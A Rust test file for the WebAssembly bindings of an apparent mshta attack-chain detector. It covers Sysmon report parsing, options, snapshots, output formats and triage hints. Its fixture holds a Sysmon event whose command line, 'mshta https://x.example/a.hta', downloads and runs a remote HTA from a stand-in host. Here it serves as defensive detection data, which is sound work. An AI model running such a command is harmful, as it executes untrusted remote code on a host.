//! The bindings inside a real WebAssembly instance (Node), run with
//! `wasm-bindgen-test-runner`: what crosses the boundary, and errors.
#![cfg(target_arch = "wasm32")]

use js_sys::{Array, Reflect};
use mshta_chain_wasm::{analyze_bytes, format_report, ocsf_severity_id, triage, Detector};
use wasm_bindgen::JsValue;
use wasm_bindgen_test::wasm_bindgen_test;

const MSHTA: &[u8] = br#"{"EventID":1,"Channel":"Microsoft-Windows-Sysmon/Operational","Hostname":"PC1","UtcTime":"2024-05-01 10:00:00.000","ProcessId":"4242","Image":"C:\\Windows\\System32\\mshta.exe","CommandLine":"mshta https://x.example/a.hta"}"#;

fn get(v: &JsValue, key: &str) -> JsValue {
    Reflect::get(v, &JsValue::from_str(key)).unwrap_or(JsValue::UNDEFINED)
}

#[wasm_bindgen_test]
fn report_is_a_plain_object_with_chains() {
    let report = analyze_bytes(MSHTA, JsValue::UNDEFINED).unwrap_or_else(|_| panic!("analyze failed"));
    let chains: Array = get(&report, "chains").into();
    assert_eq!(chains.length(), 1);
    let root = get(&chains.get(0), "root");
    assert_eq!(get(&root, "pid").as_f64(), Some(4242.0));
    assert_eq!(get(&get(&report, "stats"), "events").as_f64(), Some(1.0));
    // by_schema is an object, not a Map.
    assert_eq!(get(&get(&get(&report, "stats"), "by_schema"), "sysmon_flat").as_f64(), Some(1.0));
    assert!(get(&root, "process_guid").is_null());
}

#[wasm_bindgen_test]
fn unknown_option_is_an_error() {
    let options = js_sys::Object::new();
    Reflect::set(&options, &"windw_seconds".into(), &JsValue::from_f64(1.0)).unwrap();
    assert!(analyze_bytes(MSHTA, options.into()).is_err());
}

#[wasm_bindgen_test]
fn detector_accumulates_batches() {
    let mut d = Detector::new(JsValue::NULL).unwrap_or_else(|_| panic!("new failed"));
    d.push_bytes(b"not json\n").unwrap_or_else(|_| panic!("push failed"));
    d.push_bytes(MSHTA).unwrap_or_else(|_| panic!("push failed"));
    let report = d.finish().unwrap_or_else(|_| panic!("finish failed"));
    let errors: Array = get(&report, "errors").into();
    assert_eq!(get(&errors.get(0), "index").as_f64(), Some(0.0));
    let chains: Array = get(&report, "chains").into();
    assert_eq!(chains.length(), 1);
}

#[wasm_bindgen_test]
fn snapshot_restores_with_saved_or_given_options() {
    let options = js_sys::Object::new();
    Reflect::set(&options, &"min_score".into(), &JsValue::from_f64(101.0)).unwrap();
    assert!(Detector::new(options.into()).is_err(), "min_score above 100 is rejected");

    let mut d = Detector::new(JsValue::UNDEFINED).unwrap_or_else(|_| panic!("new failed"));
    d.push_bytes(MSHTA).unwrap_or_else(|_| panic!("push failed"));
    let bytes = d.snapshot();
    let mut restored = Detector::restore(&bytes, JsValue::UNDEFINED).unwrap_or_else(|_| panic!("restore failed"));
    let report = restored.finish().unwrap_or_else(|_| panic!("finish failed"));
    let chains: Array = get(&report, "chains").into();
    assert_eq!(chains.length(), 1);
    let mut bad = bytes.clone();
    bad[bytes.len() / 2] ^= 0xff;
    assert!(Detector::restore(&bad, JsValue::UNDEFINED).is_err(), "a corrupted snapshot is an error");
    assert!(Detector::restore(&bytes[..bytes.len() - 3], JsValue::UNDEFINED).is_err(), "a truncated one too");
}

#[wasm_bindgen_test]
fn format_report_writes_the_core_formats_from_report_json() {
    let mut d = Detector::new(JsValue::UNDEFINED).unwrap_or_else(|_| panic!("new failed"));
    d.push_bytes(MSHTA).unwrap_or_else(|_| panic!("push failed"));
    let report = d.finish().unwrap_or_else(|_| panic!("finish failed"));
    let json: String = js_sys::JSON::stringify(&report).unwrap().into();
    let text = format_report(json.as_bytes(), "text", JsValue::UNDEFINED).unwrap_or_else(|_| panic!("text failed"));
    assert!(text.starts_with("mshta-chain: 1 chain | 1 event, 1 accepted"), "{text}");
    assert!(!text.contains('\x1b'));
    // Options as the JS API reads them: colour only when exactly true.
    let options = js_sys::Object::new();
    Reflect::set(&options, &"color".into(), &JsValue::TRUE).unwrap();
    Reflect::set(&options, &"productVersion".into(), &"9.9.9".into()).unwrap();
    let coloured =
        format_report(json.as_bytes(), "text", options.clone().into()).unwrap_or_else(|_| panic!("text failed"));
    assert!(coloured.contains("\x1b["));
    let ocsf = format_report(json.as_bytes(), "ocsf", options.into()).unwrap_or_else(|_| panic!("ocsf failed"));
    let findings: Array = js_sys::JSON::parse(&ocsf).unwrap().into();
    assert_eq!(findings.length(), 1);
    assert_eq!(
        get(&get(&get(&findings.get(0), "metadata"), "product"), "version").as_string().as_deref(),
        Some("9.9.9")
    );
    assert_eq!(format_report(b"null", "ecs-ndjson", JsValue::NULL).ok().as_deref(), Some(""));
    // An unknown format and an unreadable report are errors.
    assert!(format_report(json.as_bytes(), "xml", JsValue::UNDEFINED).is_err());
    assert!(format_report(b"{\"chains\": 3}", "ocsf", JsValue::UNDEFINED).is_err());
    // The triage of the chain, with its host's gaps (this input has no network or DNS events).
    let chain = js_sys::JSON::stringify(&Array::from(&get(&report, "chains")).get(0)).unwrap().as_string().unwrap();
    let coverage = js_sys::JSON::stringify(&get(&report, "coverage")).unwrap().as_string().unwrap();
    let items: Array = triage(format!("{{\"chain\":{chain},\"coverage\":{coverage}}}").as_bytes())
        .unwrap_or_else(|_| panic!("triage failed"))
        .into();
    let items: Vec<String> = items.iter().filter_map(|v| v.as_string()).collect();
    assert!(
        items.iter().any(|i| i.starts_with("retrieve and inspect the content at https://x.example/a.hta")),
        "{items:?}"
    );
    assert!(items.iter().any(|i| i.starts_with("no DNS telemetry from this host")), "{items:?}");
    assert!(triage(b"{}").is_err());
    assert_eq!(ocsf_severity_id("high".into()), 4);
    assert_eq!(ocsf_severity_id("severe".into()), 0);
}
